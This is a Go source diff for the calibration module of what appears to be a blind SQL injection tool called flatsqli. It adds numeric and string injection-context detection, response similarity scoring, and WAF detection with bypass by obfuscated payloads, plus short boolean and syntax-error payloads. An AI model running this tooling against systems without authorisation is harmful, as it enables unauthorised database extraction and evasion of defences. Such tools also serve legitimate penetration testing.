@@ -1,20 +1,59 @@
 package calibrator
 
 import (
+	"errors"
 	"fmt"
 
 	"github.com/morkin1792/flatsqli/internal/fingerprint"
+	"github.com/morkin1792/flatsqli/internal/payloads"
 	"github.com/morkin1792/flatsqli/internal/requester"
 	"github.com/morkin1792/flatsqli/internal/ui"
 )
 
+// ErrorPolicy controls how ERROR responses are interpreted during extraction
+type ErrorPolicy int
+
+const (
+	// ErrorRetry re-sends a probe that returned ERROR and aborts if it keeps erroring
+	ErrorRetry ErrorPolicy = iota
+	// ErrorAsFalse treats any non-TRUE response (including ERROR) as FALSE
+	ErrorAsFalse
+)
+
+// ErrErrorResponse is returned when a probe keeps returning the ERROR fingerprint
+var ErrErrorResponse = errors.New("probe returned an ERROR response")
+
+// ErrUnknownResponse is returned when a probe keeps getting a response matching
+// neither TRUE, FALSE nor ERROR (e.g. a transient 503), which must not be read as FALSE
+var ErrUnknownResponse = errors.New("probe returned a response matching neither TRUE, FALSE nor ERROR")
+
+// ErrBlocked is returned when a probe keeps getting an unrecognized response
+// (likely a WAF block page) and no obfuscation transform gets through
+var ErrBlocked = errors.New("probe blocked: response matches neither TRUE, FALSE nor ERROR")
+
 // CalibrationResult holds the fingerprints for TRUE, FALSE, and ERROR conditions
 type CalibrationResult struct {
 	TrueFingerprint  *fingerprint.Fingerprint
+	TruePayload      string // calibration conditions that produced the fingerprints
+	FalsePayload     string
 	FalseFingerprint *fingerprint.Fingerprint
 	ErrorFingerprint *fingerprint.Fingerprint
 	CanDifferentiate bool
 	ErrorMatchesTrue bool // If true, ERROR response looks like TRUE
+	Stable           bool // If false, the same TRUE payload produced different responses
+	Inverted         bool // TRUE and FALSE fingerprints were swapped
+	ErrorPolicy      ErrorPolicy
+	ErrorRetries     int                     // Retries for ERROR responses (ErrorRetry policy)
+	UnknownRetries   int                     // Retries for unrecognized responses (ErrorRetry policy, 0 = FALSE)
+	DataType         payloads.DataType       // form the conditions are wrapped in, see Calibrator.SetDataType
+	Compare          fingerprint.CompareMode // strictness of every fingerprint comparison, see Calibrator.SetCompareMode
+	DiffThreshold    float64                 // similarity a response needs to its closest calibration body, 0 unless diff mode
+	verbose          bool
+
+	decide     func(*fingerprint.Fingerprint) fingerprint.MatchType // overrides fingerprint comparison, see SetStatusDecision
+	obfuscator *payloads.Obfuscator                                 // nil unless WAF bypass is enabled
+	bypass     int                                                  // index of the transform that got through
+	bypassing  bool                                                 // a transform is in use for every probe
 }
 
 // Calibration payloads - pure boolean conditions for CASE WHEN context
@@ -37,6 +76,10 @@ var (
 		"4<1",
 	}
 
+	// Arithmetic pair probing the numeric and string forms when plain conditions
+	// can't differentiate: it needs neither quotes nor a particular database
+	dataTypePayloads = [2]string{"2-1=1", "2-1=2"}
+
 	// ERROR conditions - intentional syntax errors
 	errorPayloads = []string{
 		"1='",
@@ -50,6 +93,11 @@ var (
 type Calibrator struct {
 	requester *requester.Requester
 	verbose   bool
+	baseline  string // raw request sent twice to find dynamic content, see SetBaseline
+	dataType  payloads.DataType
+	fixedType bool // dataType was set with SetDataType, don't probe for it
+	compare   fingerprint.CompareMode
+	diff      bool // classify responses by content similarity, see SetDiffMode
 }
 
 // New creates a new Calibrator
@@ -60,30 +108,143 @@ func New(req *requester.Requester, verbose bool) *Calibrator {
 	}
 }
 
+// SetBaseline sets a known-FALSE request (raw, without marker) whose response is
+// fetched twice before calibrating: the spans that differ between the two are
+// dynamic noise, removed from every response before it is fingerprinted
+func (c *Calibrator) SetBaseline(rawRequest string) {
+	c.baseline = rawRequest
+}
+
+// SetDataType forces the form conditions are wrapped in, instead of probing the
+// numeric and string forms when plain conditions can't differentiate
+func (c *Calibrator) SetDataType(dataType payloads.DataType) {
+	c.dataType = dataType
+	c.fixedType = true
+}
+
+// SetCompareMode sets how strictly responses must agree to match a calibration
+// fingerprint, for targets where the default comparison is too loose (false
+// matches) or too strict (flapping)
+func (c *Calibrator) SetCompareMode(mode fingerprint.CompareMode) {
+	c.compare = mode
+}
+
+// SetDiffMode classifies responses by content similarity instead of comparing
+// fingerprints: a response is TRUE, FALSE or ERROR after the calibration body it
+// is closest to, as long as it is closer than a threshold set from how similar
+// the TRUE and FALSE bodies are. For large pages where TRUE and FALSE differ by
+// a few bytes, below the length tolerance of the default comparison.
+func (c *Calibrator) SetDiffMode(enabled bool) {
+	c.diff = enabled
+	c.requester.SetKeepBody(enabled)
+}
+
+// learnDynamicContent sends the baseline request twice and masks what differs
+func (c *Calibrator) learnDynamicContent() error {
+	first, err := c.requester.SendRaw(c.baseline)
+	if err != nil {
+		return err
+	}
+	second, err := c.requester.SendRaw(c.baseline)
+	if err != nil {
+		return err
+	}
+
+	filter := fingerprint.NewDynamicFilter(fingerprint.FindDynamicContent(first.Body, second.Body))
+	if filter.Len() == 0 {
+		ui.Verbose(c.verbose, "Baseline responses are identical, no dynamic content to mask")
+		return nil
+	}
+	ui.Info("Baseline: masking %d dynamic region(s) before fingerprinting", filter.Len())
+	c.requester.SetDynamicFilter(filter)
+	return nil
+}
+
 // Calibrate performs the calibration to detect TRUE, FALSE, and ERROR fingerprints
 func (c *Calibrator) Calibrate() (*CalibrationResult, error) {
-	result := &CalibrationResult{}
+	result := &CalibrationResult{
+		ErrorPolicy:    ErrorRetry,
+		ErrorRetries:   2,
+		UnknownRetries: 2,
+		Compare:        c.compare,
+		verbose:        c.verbose,
+	}
+
+	c.requester.SetDataType(c.dataType)
+	result.DataType = c.dataType
 
 	// Warmup request to flush stale connections/DNS (especially after VPN changes)
-	// This request is discarded - it ensures fresh TCP connection and DNS resolution
+	// This request is discarded - it ensures fresh TCP connection and DNS resolution.
+	// Its headers are only checked for a WAF/CDN in front of the target, and a
+	// classified failure (see requester.Hint) tells an unreachable target early.
 	ui.Verbose(c.verbose, "Sending warmup request...")
-	_, _ = c.requester.Send("3=3") // Ignore result
+	warmup, err := c.requester.Send("3=3")
+	if err != nil {
+		if requester.Hint(err) != "" {
+			return nil, fmt.Errorf("target unreachable: %w", err)
+		}
+		ui.Verbose(c.verbose, "Warmup request failed: %v", err)
+	} else if waf := c.requester.FingerprintWAF(warmup); waf != "" {
+		ui.Warning("%s detected in front of the target, consider -waf-bypass or -jitter if probes get blocked", waf)
+	}
+
+	if c.baseline != "" {
+		ui.Verbose(c.verbose, "Sending baseline request twice...")
+		if err := c.learnDynamicContent(); err != nil {
+			return nil, fmt.Errorf("baseline request failed: %w", err)
+		}
+	}
+
+	if err := c.collectFingerprints(result); err != nil {
+		return nil, err
+	}
+
+	if !result.CanDifferentiate && !c.fixedType {
+		if dataType, ok := c.detectDataType(); ok {
+			ui.Info("Marker takes a %s value, wrapping conditions accordingly", dataType)
+			c.requester.SetDataType(dataType)
+			result.DataType = dataType
+			if err := c.collectFingerprints(result); err != nil {
+				return nil, err
+			}
+		}
+	}
 
+	return result, nil
+}
+
+// collectFingerprints sends the TRUE, FALSE and ERROR payloads and fills result
+func (c *Calibrator) collectFingerprints(result *CalibrationResult) error {
 	// Try to find working TRUE/FALSE pair
 	ui.Verbose(c.verbose, "Testing TRUE conditions...")
 	trueResp, truePayload, err := c.findWorkingPayload(truePayloads)
 	if err != nil {
-		return nil, fmt.Errorf("failed to get TRUE response: %w", err)
+		return fmt.Errorf("failed to get TRUE response: %w", err)
 	}
 	result.TrueFingerprint = trueResp.Fingerprint
+	result.TruePayload = truePayload
 	ui.Verbose(c.verbose, "TRUE payload: %s", truePayload)
 
+	// Baseline: the same TRUE payload must produce the same response again,
+	// otherwise the page is too noisy for exact-match boolean detection
+	result.Stable = true
+	ui.Verbose(c.verbose, "Checking response stability...")
+	var repeat *fingerprint.Fingerprint
+	if repeatResp, err := c.requester.Send(truePayload); err != nil {
+		ui.Verbose(c.verbose, "Stability check failed: %v", err)
+	} else if repeat = repeatResp.Fingerprint; !result.equal(repeatResp.Fingerprint, result.TrueFingerprint) {
+		result.Stable = false
+		ui.Verbose(c.verbose, "Repeated TRUE payload returned a different response: [Status: %d, Words: %d, Length: %d]",
+			repeatResp.Fingerprint.StatusCode, repeatResp.Fingerprint.WordCount, repeatResp.Fingerprint.ContentLength)
+	}
+
 	ui.Verbose(c.verbose, "Testing FALSE conditions...")
 	falseResp, falsePayload, err := c.findWorkingPayload(falsePayloads)
 	if err != nil {
-		return nil, fmt.Errorf("failed to get FALSE response: %w", err)
+		return fmt.Errorf("failed to get FALSE response: %w", err)
 	}
 	result.FalseFingerprint = falseResp.Fingerprint
+	result.FalsePayload = falsePayload
 	ui.Verbose(c.verbose, "FALSE payload: %s", falsePayload)
 
 	ui.Verbose(c.verbose, "Testing ERROR conditions...")
@@ -98,14 +259,43 @@ func (c *Calibrator) Calibrate() (*CalibrationResult, error) {
 	}
 
 	// Check if we can differentiate TRUE from FALSE
-	result.CanDifferentiate = !result.TrueFingerprint.Equals(result.FalseFingerprint)
+	result.CanDifferentiate = !result.equal(result.TrueFingerprint, result.FalseFingerprint)
 
 	// Determine if ERROR looks like TRUE or FALSE
 	if result.ErrorFingerprint != nil {
-		result.ErrorMatchesTrue = result.ErrorFingerprint.Equals(result.TrueFingerprint)
+		result.ErrorMatchesTrue = result.equal(result.ErrorFingerprint, result.TrueFingerprint)
 	}
 
-	return result, nil
+	if c.diff {
+		result.setDiffDecision(repeat)
+	}
+
+	return nil
+}
+
+// detectDataType finds what the marker stands for when plain conditions can't
+// differentiate: a number (id=<PAYLOAD>) or a quoted string (name='<PAYLOAD>').
+// Each form is tried with an arithmetic TRUE/FALSE pair; the first one yielding
+// different responses wins. The requester is left with the condition form if
+// neither does.
+func (c *Calibrator) detectDataType() (payloads.DataType, bool) {
+	for _, dataType := range []payloads.DataType{payloads.DataNumeric, payloads.DataString} {
+		ui.Verbose(c.verbose, "Testing %s context...", dataType)
+		c.requester.SetDataType(dataType)
+		trueResp, err := c.requester.Send(dataTypePayloads[0])
+		if err != nil {
+			continue
+		}
+		falseResp, err := c.requester.Send(dataTypePayloads[1])
+		if err != nil {
+			continue
+		}
+		if !trueResp.Fingerprint.EqualsMode(falseResp.Fingerprint, c.compare) {
+			return dataType, true
+		}
+	}
+	c.requester.SetDataType(payloads.DataCondition)
+	return payloads.DataCondition, false
 }
 
 // findWorkingPayload tries payloads until one works (returns a response)
@@ -127,23 +317,238 @@ func (c *Calibrator) findWorkingPayload(payloads []string) (*requester.Response,
 	return nil, "", fmt.Errorf("no payload succeeded")
 }
 
+// Invert swaps the TRUE and FALSE fingerprints, for contexts where a TRUE
+// condition breaks the query and a FALSE one yields the normal page
+func (r *CalibrationResult) Invert() {
+	r.TrueFingerprint, r.FalseFingerprint = r.FalseFingerprint, r.TrueFingerprint
+	r.Inverted = !r.Inverted
+	if decide := r.decide; decide != nil {
+		r.decide = func(fp *fingerprint.Fingerprint) fingerprint.MatchType {
+			switch match := decide(fp); match {
+			case fingerprint.MatchTrue:
+				return fingerprint.MatchFalse
+			case fingerprint.MatchFalse:
+				return fingerprint.MatchTrue
+			default:
+				return match
+			}
+		}
+	}
+	if r.ErrorFingerprint != nil {
+		r.ErrorMatchesTrue = r.IsTrue(r.ErrorFingerprint)
+	}
+}
+
+// SetErrorPolicy sets how ERROR responses are handled by Probe
+func (r *CalibrationResult) SetErrorPolicy(policy ErrorPolicy, retries int) {
+	r.ErrorPolicy = policy
+	r.ErrorRetries = retries
+}
+
+// SetStatusDecision decides TRUE and FALSE by status code alone instead of
+// comparing fingerprints. With only one set given, any other status means the
+// opposite; with both, a status in neither is unknown. CanDifferentiate is
+// re-evaluated against the calibration fingerprints.
+func (r *CalibrationResult) SetStatusDecision(trueStatus, falseStatus fingerprint.StatusRanges) {
+	r.decide = func(fp *fingerprint.Fingerprint) fingerprint.MatchType {
+		switch {
+		case len(trueStatus) > 0 && trueStatus.Contains(fp.StatusCode):
+			return fingerprint.MatchTrue
+		case len(falseStatus) > 0 && falseStatus.Contains(fp.StatusCode):
+			return fingerprint.MatchFalse
+		case len(trueStatus) == 0:
+			return fingerprint.MatchTrue
+		case len(falseStatus) == 0:
+			return fingerprint.MatchFalse
+		}
+		return fingerprint.MatchUnknown
+	}
+
+	r.CanDifferentiate = r.IsTrue(r.TrueFingerprint) && r.IsFalse(r.FalseFingerprint)
+	if r.ErrorFingerprint != nil {
+		r.ErrorMatchesTrue = r.IsTrue(r.ErrorFingerprint)
+	}
+}
+
+// setDiffDecision decides by content similarity, see Calibrator.SetDiffMode.
+// The threshold lies halfway between the similarity of the TRUE and FALSE
+// bodies and that of two TRUE responses (repeat, 1 if unknown): closer than
+// that to a reference, a response can't be the other state or plain noise.
+func (r *CalibrationResult) setDiffDecision(repeat *fingerprint.Fingerprint) {
+	// A decision from an earlier calibration attempt must not outlive it
+	r.decide, r.DiffThreshold = nil, 0
+	trueFp, falseFp, errorFp := r.TrueFingerprint, r.FalseFingerprint, r.ErrorFingerprint
+	between := fingerprint.Ratio(trueFp.Body, falseFp.Body)
+	stable := 1.0
+	if repeat != nil {
+		stable = fingerprint.Ratio(trueFp.Body, repeat.Body)
+	}
+	ui.Verbose(r.verbose, "Diff mode: TRUE/FALSE similarity %.4f, TRUE/TRUE %.4f", between, stable)
+	if stable <= between {
+		ui.Verbose(r.verbose, "Diff mode: repeated TRUE responses differ as much as TRUE and FALSE, not used")
+		return
+	}
+	r.DiffThreshold = (between + stable) / 2
+
+	references := []struct {
+		match fingerprint.MatchType
+		fp    *fingerprint.Fingerprint
+	}{
+		{fingerprint.MatchTrue, trueFp},
+		{fingerprint.MatchFalse, falseFp},
+		{fingerprint.MatchError, errorFp},
+	}
+	threshold := r.DiffThreshold
+	r.decide = func(fp *fingerprint.Fingerprint) fingerprint.MatchType {
+		match, best := fingerprint.MatchUnknown, threshold
+		for _, ref := range references {
+			// Status, match string and header are explicit signals, checked first
+			if ref.fp == nil || ref.fp.StatusCode != fp.StatusCode || ref.fp.ContainsMatchString != fp.ContainsMatchString ||
+				ref.fp.UseHeader && fp.UseHeader && ref.fp.Header != fp.Header {
+				continue
+			}
+			// Ties go to the earlier reference: ERROR may be the FALSE fallback
+			if ratio := fingerprint.Ratio(ref.fp.Body, fp.Body); ratio > best || ratio == best && match == fingerprint.MatchUnknown {
+				match, best = ref.match, ratio
+			}
+		}
+		return match
+	}
+
+	r.CanDifferentiate = r.IsTrue(trueFp) && r.IsFalse(falseFp)
+	if errorFp != nil {
+		r.ErrorMatchesTrue = r.IsTrue(errorFp)
+	}
+}
+
+// SetUnknownRetries sets how many times Probe re-sends a probe whose response
+// matches no fingerprint before failing with ErrUnknownResponse. With 0 such
+// responses are read as FALSE.
+func (r *CalibrationResult) SetUnknownRetries(retries int) {
+	r.UnknownRetries = retries
+}
+
+// SetWAFBypass enables retrying with obfuscated payloads when probes get blocked
+func (r *CalibrationResult) SetWAFBypass(obfuscator *payloads.Obfuscator) {
+	r.obfuscator = obfuscator
+}
+
+// Probe sends a boolean payload and reports whether it evaluated to TRUE.
+// ERROR and unrecognized responses are neither TRUE nor FALSE, so depending on
+// ErrorPolicy they are either retried (failing with ErrErrorResponse or
+// ErrUnknownResponse) or treated as FALSE.
+func (r *CalibrationResult) Probe(req *requester.Requester, payload string) (bool, error) {
+	errorAttempts, unknownAttempts := 0, 0
+	for {
+		resp, err := r.send(req, payload)
+		if err != nil {
+			return false, err
+		}
+
+		match := r.GetMatchType(resp.Fingerprint)
+		switch {
+		case match == fingerprint.MatchTrue:
+			return true, nil
+		case match == fingerprint.MatchFalse || r.ErrorPolicy == ErrorAsFalse:
+			return false, nil
+		case match == fingerprint.MatchError:
+			if errorAttempts >= r.ErrorRetries {
+				return false, fmt.Errorf("%w (after %d retries)", ErrErrorResponse, errorAttempts)
+			}
+			errorAttempts++
+			ui.Verbose(r.verbose, "ERROR response for probe, retrying (%d/%d)", errorAttempts, r.ErrorRetries)
+		default:
+			if r.UnknownRetries == 0 {
+				return false, nil
+			}
+			if unknownAttempts >= r.UnknownRetries {
+				return false, fmt.Errorf("%w (status %d, after %d retries)", ErrUnknownResponse, resp.Fingerprint.StatusCode, unknownAttempts)
+			}
+			unknownAttempts++
+			ui.Verbose(r.verbose, "Unrecognized response for probe (status %d), retrying (%d/%d)", resp.Fingerprint.StatusCode, unknownAttempts, r.UnknownRetries)
+		}
+	}
+}
+
+// send sends a probe payload. With WAF bypass enabled, a response that keeps
+// matching neither TRUE, FALSE nor ERROR is treated as a block, and the payload
+// is retried through each obfuscation transform. The first transform that gets a
+// recognized response is then used for every later probe.
+func (r *CalibrationResult) send(req *requester.Requester, payload string) (*requester.Response, error) {
+	if r.obfuscator == nil {
+		return req.Send(payload)
+	}
+
+	if r.bypassing {
+		resp, err := req.Send(r.obfuscator.Apply(payload, r.bypass))
+		if err != nil || r.GetMatchType(resp.Fingerprint) != fingerprint.MatchUnknown {
+			return resp, err
+		}
+	} else {
+		// A single unknown response may be a glitch, a repeated one is a probable block
+		for i := 0; i < 2; i++ {
+			resp, err := req.Send(payload)
+			if err != nil || r.GetMatchType(resp.Fingerprint) != fingerprint.MatchUnknown {
+				return resp, err
+			}
+		}
+	}
+
+	ui.Verbose(r.verbose, "Unrecognized response, probable WAF block; trying obfuscated payloads")
+	for i := 0; i < r.obfuscator.Len(); i++ {
+		if r.bypassing && i == r.bypass {
+			continue
+		}
+		resp, err := req.Send(r.obfuscator.Apply(payload, i))
+		if errors.Is(err, requester.ErrBudgetExhausted) {
+			return nil, err
+		}
+		if err != nil {
+			// A transform may be dropped by the WAF at the connection level
+			ui.Verbose(r.verbose, "%s transform failed: %v", r.obfuscator.Name(i), err)
+			continue
+		}
+		if r.GetMatchType(resp.Fingerprint) != fingerprint.MatchUnknown {
+			ui.Info("WAF bypass: using %s transform", r.obfuscator.Name(i))
+			r.bypass = i
+			r.bypassing = true
+			return resp, nil
+		}
+	}
+	return nil, ErrBlocked
+}
+
 // IsTrue checks if a fingerprint matches the TRUE condition
 func (r *CalibrationResult) IsTrue(fp *fingerprint.Fingerprint) bool {
-	return r.TrueFingerprint.Equals(fp)
+	if r.decide != nil {
+		return r.decide(fp) == fingerprint.MatchTrue
+	}
+	return r.equal(r.TrueFingerprint, fp)
 }
 
 // IsFalse checks if a fingerprint matches the FALSE condition
 func (r *CalibrationResult) IsFalse(fp *fingerprint.Fingerprint) bool {
-	return r.FalseFingerprint.Equals(fp)
+	if r.decide != nil {
+		return r.decide(fp) == fingerprint.MatchFalse
+	}
+	return r.equal(r.FalseFingerprint, fp)
 }
 
 // IsError checks if a fingerprint matches the ERROR condition
 func (r *CalibrationResult) IsError(fp *fingerprint.Fingerprint) bool {
-	return r.ErrorFingerprint.Equals(fp)
+	return r.equal(r.ErrorFingerprint, fp)
+}
+
+// equal compares two fingerprints with the configured CompareMode
+func (r *CalibrationResult) equal(a, b *fingerprint.Fingerprint) bool {
+	return a.EqualsMode(b, r.Compare)
 }
 
 // GetMatchType determines what type of match a fingerprint is
 func (r *CalibrationResult) GetMatchType(fp *fingerprint.Fingerprint) fingerprint.MatchType {
+	if r.decide != nil {
+		return r.decide(fp)
+	}
 	if r.IsTrue(fp) {
 		return fingerprint.MatchTrue
 	}